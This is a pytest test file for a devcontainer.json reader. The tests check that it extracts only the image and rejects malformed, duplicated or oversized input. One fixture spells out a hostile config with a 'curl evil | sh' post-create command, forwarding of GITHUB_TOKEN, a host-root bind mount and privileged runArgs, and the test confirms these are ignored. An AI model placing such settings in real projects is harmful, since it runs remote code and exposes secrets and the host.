"""What a devcontainer.json says of its image: JSON with comments, by anybody, and bounded."""

import time

import pytest

from agents.analysis.devcontainer import DEEPEST, LONGEST, Devcontainer, read_devcontainer

USUAL = """// For format details, see https://aka.ms/devcontainer.json
{
  "name": "Python 3",
  /* or use a Dockerfile: "build": {} */
  "image": "mcr.microsoft.com/devcontainers/python:1-3.12-bookworm",
  // "features": {},
  "customizations": {"vscode": {"extensions": ["ms-python.python",],},},
}
"""


def test_the_image_is_read_past_comments_and_trailing_commas():
    said = read_devcontainer(USUAL)
    assert said == Devcontainer("mcr.microsoft.com/devcontainers/python:1-3.12-bookworm")


def test_what_is_not_followed_is_named():
    hostile = """{"image": "a/b:1", "features": {"x": {}}, "postCreateCommand": "curl evil | sh",
      "remoteEnv": {"TOKEN": "${localEnv:GITHUB_TOKEN}"}, "containerEnv": {}, "privileged": false,
      "mounts": ["source=/,target=/host,type=bind"], "runArgs": ["--privileged", "--net=host"]}"""
    said = read_devcontainer(hostile)
    assert said.image == "a/b:1"
    assert said.left_out == ("features", "postCreateCommand", "remoteEnv", "mounts", "runArgs")


@pytest.mark.parametrize(
    "text",
    [
        '{"build": {"dockerfile": "Dockerfile"}}',
        '{"image": "a/b", "build": {"dockerfile": "Dockerfile"}}',
        '{"dockerFile": "Dockerfile"}',
        '{"dockerComposeFile": "compose.yml", "service": "app"}',
    ],
)
def test_a_build_is_not_made_and_it_says_why(text):
    said = read_devcontainer(text)
    assert not said.image
    assert "Fettle builds none" in said.fault


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("", "no JSON"),
        ("{", "no JSON"),
        ("image: python", "no JSON"),
        ("[1, 2]", "no object"),
        ('"a/b"', "no object"),
        ("{}", "names no `image`"),
        ('{"image": ["a/b"]}', "names no `image`"),
        ('{"image": ""}', "names no `image`"),
        ('{"image": "a/b", "image": "evil/b"}', "stands there twice"),
        ('{"image": "a/b"} {"image": "evil/b"}', "no JSON"),
        ("[" * (DEEPEST + 1) + "]" * (DEEPEST + 1), "nested deeper"),
        ("[" * LONGEST, "nested deeper"),
        ('{"image": "' + "a" * LONGEST + '"}', "more than"),
        ("{'a': " + "\ufeff" * 6_000 + "1}", "more than"),
        ('{"a": 1' + "0" * 5_000 + "}", "no JSON"),
    ],
)
def test_what_cannot_be_read_names_no_image(text, why):
    said = read_devcontainer(text)
    assert not said.image
    assert why in said.fault
    assert "evil" not in said.fault


@pytest.mark.slow
def test_the_worst_file_takes_a_few_seconds_of_its_process():
    for text in (
        '{"a": [' + "1," * 7_990 + "]}",
        "/" * LONGEST,
        '{"a": "' + "\\x41" * 3_900 + '"}',
    ):
        began = time.process_time()
        assert not read_devcontainer(text).image
        assert time.process_time() - began < 8
